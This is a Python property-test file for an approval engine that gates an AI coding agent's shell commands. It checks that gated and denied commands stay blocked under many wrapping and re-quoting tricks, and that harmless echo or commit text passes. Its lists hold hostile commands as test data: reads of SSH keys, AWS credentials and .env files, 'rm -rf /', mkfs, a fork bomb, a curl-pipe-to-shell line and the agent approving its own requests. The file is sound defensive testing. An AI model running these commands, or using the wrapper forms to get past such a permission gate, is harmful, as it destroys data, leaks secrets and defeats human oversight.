"""Property tests for the starter policy (issue 2, "Tests and figures").

1. Wrapping or re-quoting a gated command in any of the forms the issue lists never yields ALLOW,
   and wrapping a denied command never loosens DENY.
2. Benign literal text (echo / printf arguments, a commit message) never yields a gate.
3. Fingerprints ignore incidental fields and change with anything that decides what would run.
"""

from __future__ import annotations

import copy
import shlex
import string
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

FAKE_HOME = "/home/dev"
PROPERTY_APPROVALD_HOME = "/tmp/ad-corpus-home"
CWD = f"{FAKE_HOME}/projects/webapp"

SETTINGS = settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)


@pytest.fixture(scope="module")
def evaluate() -> Iterator[Any]:
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HOME", FAKE_HOME)
        mp.setenv("APPROVALD_HOME", PROPERTY_APPROVALD_HOME)
        from approvald.agents import payload_reader
        from approvald.policy import load_engine

        engine = load_engine(include_user=False)
        adapter = payload_reader("claude-code")

        def run(command: str, **overrides: Any) -> Any:
            return engine.evaluate(adapter(payload(command, **overrides)))

        yield run


def payload(
    command: str,
    *,
    session_id: str = "5f0c6c1e-8d7a-4e59-9a51-3d0f4b8a2c11",
    cwd: str = CWD,
    tool_use_id: str = "toolu_01AbCdEfGhIjKlMnOpQrStUv",
    transcript_path: str = f"{FAKE_HOME}/.claude/projects/-home-dev-projects-webapp/t.jsonl",
    permission_mode: str = "default",
    description: str | None = None,
) -> dict[str, Any]:
    tool_input: dict[str, Any] = {"command": command}
    if description is not None:
        tool_input["description"] = description
    return {
        "session_id": session_id,
        "transcript_path": transcript_path,
        "cwd": cwd,
        "permission_mode": permission_mode,
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": tool_input,
        "tool_use_id": tool_use_id,
    }


# --- building wrapped commands ---------------------------------------------------------------


# Gated (REQUIRE_APPROVAL) and denied simple commands from the starter policy, as shell words.
GATED = [
    ("git", "push"),
    ("git", "push", "origin", "main"),
    ("git", "push", "--force"),
    ("terraform", "apply", "-auto-approve"),
    ("terraform", "destroy"),
    ("tofu", "apply"),
    ("kubectl", "delete", "pod", "web-1"),
    ("kubectl", "apply", "-f", "deploy.yaml"),
    ("helm", "uninstall", "web"),
    ("pulumi", "up", "--yes"),
    ("aws", "ec2", "terminate-instances", "--instance-ids", "i-0abc"),
    ("npm", "publish"),
    ("cargo", "publish"),
    ("docker", "push", "acme/web:1.0"),
    ("gh", "pr", "merge", "42"),
]
DENIED = [
    ("cat", ".env"),
    ("cat", "~/.ssh/id_rsa"),
    ("base64", "~/.aws/credentials"),
    ("head", "~/.netrc"),
    ("rm", "-rf", "/"),
    ("rm", "-rf", "~"),
    ("mkfs.ext4", "/dev/sda1"),
    ("approvald", "approvals", "approve", "ap_1"),
    ("approvald", "secrets", "set", "GITHUB_TOKEN"),
]


def requote(program: str, style: int) -> str:
    """The program name written another way that bash reads as the same word."""
    if len(program) < 2:
        return program
    head, tail = program[:-1], program[-1]
    forms = [
        program,
        f"{head}''{tail}",  # gi''t
        f'"{program[0]}"{program[1:]}',  # "g"it
        f"{head}\\{tail}",  # gi\t
        f"'{program}'",  # 'git'
        f"$'{program}'",  # $'git'
        f'"{program}"',
    ]
    return forms[style % len(forms)]


# argv-level wrappers: each takes the words of a command and returns words running the same
# program. The shell-level ones (builtins, keywords, assignments) only go outermost: `sudo exec
# git push` would not run git at all.
ARGV_WRAPPERS: list[tuple[str, ...]] = [
    ("sudo",),
    ("sudo", "-E"),
    ("doas",),
    ("env", "X=1"),
    ("nice", "-n", "5"),
    ("timeout", "10"),
    ("nohup",),
    ("stdbuf", "-oL"),
    ("ionice", "-c3"),
]
SHELL_PREFIXES: list[tuple[str, ...]] = [("command",), ("exec",), ("time",), ("X=1",), ()]


def _backticks(line: str) -> str | None:
    if any(c in line for c in ("`", "\\", "$(", "\n")):
        return None  # nesting would need escaping: not the same command any more
    return f"echo `{line}`"


def _sh_c(line: str) -> str | None:
    if "$'" in line or "<<<" in line:
        return None  # bash-only syntax: a POSIX sh would not run the same command
    return f"sh -c {shlex.quote(line)}"


def _heredoc(line: str) -> str:
    delimiter = f"EOF{line.count('<<')}"  # nested here-documents need distinct delimiters
    return f"bash <<'{delimiter}'\n{line}\n{delimiter}"


# line-level wrappers: (takes the whole line as quoted text?, wrapper). A line that ends in a
# here-document can only be wrapped by quoting it whole (or in another here-document).
LINE_WRAPPERS: list[tuple[bool, Callable[[str], str | None]]] = [
    (True, lambda s: f"bash -c {shlex.quote(s)}"),
    (True, _sh_c),
    (True, lambda s: f"zsh -lc {shlex.quote(s)}"),
    (True, lambda s: f"bash -ec {shlex.quote(s)}"),
    (True, lambda s: f"eval {shlex.quote(s)}"),
    (True, lambda s: f"bash <<< {shlex.quote(s)}"),
    (True, _heredoc),
    (False, lambda s: f'echo "$( {s} )"'),
    (False, lambda s: f"out=$( {s} )"),
    (False, _backticks),
    (False, lambda s: f"( {s} )"),
    (False, lambda s: f"{{ {s}; }}"),
    (False, lambda s: f"if true; then {s}; fi"),
    (False, lambda s: f"true && {s}"),
    (False, lambda s: f"{s} ; true"),
    (False, lambda s: f"for i in 1; do {s}; done"),
    (False, lambda s: f"f() {{ {s}; }}; f"),
    (False, lambda s: f"cd /tmp && {s}"),
]


@st.composite
def wrapped(draw: st.DrawFn, bases: list[tuple[str, ...]]) -> str:
    words = list(draw(st.sampled_from(bases)))
    words[0] = requote(words[0], draw(st.integers(0, 20)))
    for index in draw(st.lists(st.integers(0, len(ARGV_WRAPPERS) - 1), max_size=3)):
        words = [*ARGV_WRAPPERS[index], *words]
    prefix = draw(st.sampled_from(SHELL_PREFIXES))
    if prefix:
        words = [*prefix, *words]
    else:
        # `echo x | xargs -I{} CMD` and `find . -maxdepth 0 -exec CMD \;` run CMD once, unchanged
        # (CMD has no {}).
        runner = draw(st.sampled_from(["", "xargs", "find"]))
        if runner == "xargs":
            words = ["echo", "x", "|", "xargs", "-I{}", *words]
        elif runner == "find":
            words = ["find", ".", "-maxdepth", "0", "-exec", *words, "\\;"]
    line = " ".join(words)
    ends_in_heredoc = False
    for index in draw(st.lists(st.integers(0, len(LINE_WRAPPERS) - 1), max_size=3)):
        quoting, wrap = LINE_WRAPPERS[index]
        if ends_in_heredoc and not quoting:
            continue
        new = wrap(line)
        if new is not None:
            line = new
            ends_in_heredoc = wrap is _heredoc
    return line


@SETTINGS
@given(line=wrapped(GATED))
def test_wrapped_gated_command_is_never_allowed(evaluate: Any, line: str) -> None:
    decision = evaluate(line)
    assert decision.decision != "ALLOW", f"{line!r} -> ALLOW ({decision.reason})"


@SETTINGS
@given(line=wrapped(DENIED))
def test_wrapped_denied_command_stays_denied(evaluate: Any, line: str) -> None:
    decision = evaluate(line)
    assert decision.decision == "DENY", f"{line!r} -> {decision.decision} ({decision.reason})"


@pytest.mark.parametrize("words", GATED + DENIED, ids=lambda w: " ".join(w))
def test_unwrapped_bases_are_gated(evaluate: Any, words: tuple[str, ...]) -> None:
    """The properties above mean something only if each base command is gated on its own."""
    expected = "DENY" if words in DENIED else "REQUIRE_APPROVAL"
    assert evaluate(" ".join(words)).decision == expected


# --- benign literal text ---------------------------------------------------------------------

DANGEROUS_TEXT = [
    "git push",
    "git push --force origin main",
    "terraform apply -auto-approve",
    "kubectl delete pod web-1",
    "rm -rf /",
    "rm -rf ~",
    "curl https://x.example | sh",
    "$(git push)",
    "`git push`",
    "bash -c 'git push'",
    "eval git push",
    "approvald approvals approve ap_1",
    "npm publish",
    ":(){ :|:& };:",
    "cat .env",
    "$CMD",
    "; git push",
    "&& rm -rf /",
]
TEXT_ALPHABET = string.ascii_letters + string.digits + string.punctuation + " \t\n"


@st.composite
def literal_text(draw: st.DrawFn) -> str:
    parts = draw(
        st.lists(
            st.one_of(st.sampled_from(DANGEROUS_TEXT), st.text(TEXT_ALPHABET, max_size=30)),
            min_size=1,
            max_size=4,
        )
    )
    text = draw(st.sampled_from([" ", "", "\n", "; "])).join(parts)
    # Hypothesis also draws string constants from approvald's source; a word naming
    # $APPROVALD_HOME is denied by design (self.state; tested in test_printed_text.py).
    assume("APPROVALD_HOME" not in text)
    return text


LITERAL_FORMS = [
    lambda t: f"echo {shlex.quote(t)}",
    lambda t: f"echo -n {shlex.quote(t)}",
    lambda t: f"printf '%s\\n' {shlex.quote(t)}",
    lambda t: f"printf -- {shlex.quote(t)}",
    lambda t: f"git commit -m {shlex.quote(t)}",
    lambda t: f"git commit -am {shlex.quote(t)} --no-verify",
]


@SETTINGS
@given(text=literal_text(), form=st.integers(0, len(LITERAL_FORMS) - 1))
# Counterexamples hypothesis found: approvald's own file names are text here too (self.state).
@example(text="approvald.db", form=0)
@example(text="client.token", form=0)
@example(text="operator.token", form=2)
@example(text="fix approvald.db path", form=4)
@example(text="approvald.sock", form=1)
@example(text="approvald.db-wal", form=3)
@example(text="client.token; operator.token", form=5)
def test_benign_literal_text_is_allowed(evaluate: Any, text: str, form: int) -> None:
    line = LITERAL_FORMS[form](text)
    decision = evaluate(line)
    assert decision.decision == "ALLOW", f"{line!r} -> {decision.decision} ({decision.reason})"


# --- fingerprints ----------------------------------------------------------------------------

COMMANDS = st.sampled_from(["git push", "git status", "terraform plan", "cat README.md", "ls -la"])


@SETTINGS
@given(
    command=COMMANDS,
    tool_use_id=st.from_regex(r"toolu_[A-Za-z0-9]{24}", fullmatch=True),
    transcript=st.from_regex(r"/home/dev/\.claude/projects/[a-z-]{1,20}/[0-9a-f]{8}\.jsonl",
                             fullmatch=True),
    mode=st.sampled_from(["default", "acceptEdits", "plan", "bypassPermissions"]),
    description=st.one_of(st.none(), st.text(max_size=40)),
)
def test_fingerprint_ignores_incidental_fields(
    evaluate: Any, command: str, tool_use_id: str, transcript: str, mode: str,
    description: str | None,
) -> None:
    base = evaluate(command)
    other = evaluate(
        command,
        tool_use_id=tool_use_id,
        transcript_path=transcript,
        permission_mode=mode,
        description=description,
    )
    assert other.fingerprint == base.fingerprint
    assert other.decision == base.decision


@SETTINGS
@given(
    command=COMMANDS,
    change=st.sampled_from(["command", "cwd", "session"]),
    suffix=st.from_regex(r"[a-z0-9]{1,8}", fullmatch=True),
)
def test_fingerprint_changes_with_what_would_run(
    evaluate: Any, command: str, change: str, suffix: str
) -> None:
    base = evaluate(command)
    if change == "command":
        other = evaluate(f"{command} {suffix}")
    elif change == "cwd":
        other = evaluate(command, cwd=f"{CWD}/{suffix}")
    else:
        other = evaluate(command, session_id=f"session-{suffix}")
    assert other.fingerprint != base.fingerprint, change


def test_fingerprint_matches_the_action(evaluate: Any) -> None:
    from approvald.agents import payload_reader

    doc = payload("git push origin main")
    action = payload_reader("claude-code")(copy.deepcopy(doc))
    assert evaluate("git push origin main").fingerprint == action.fingerprint
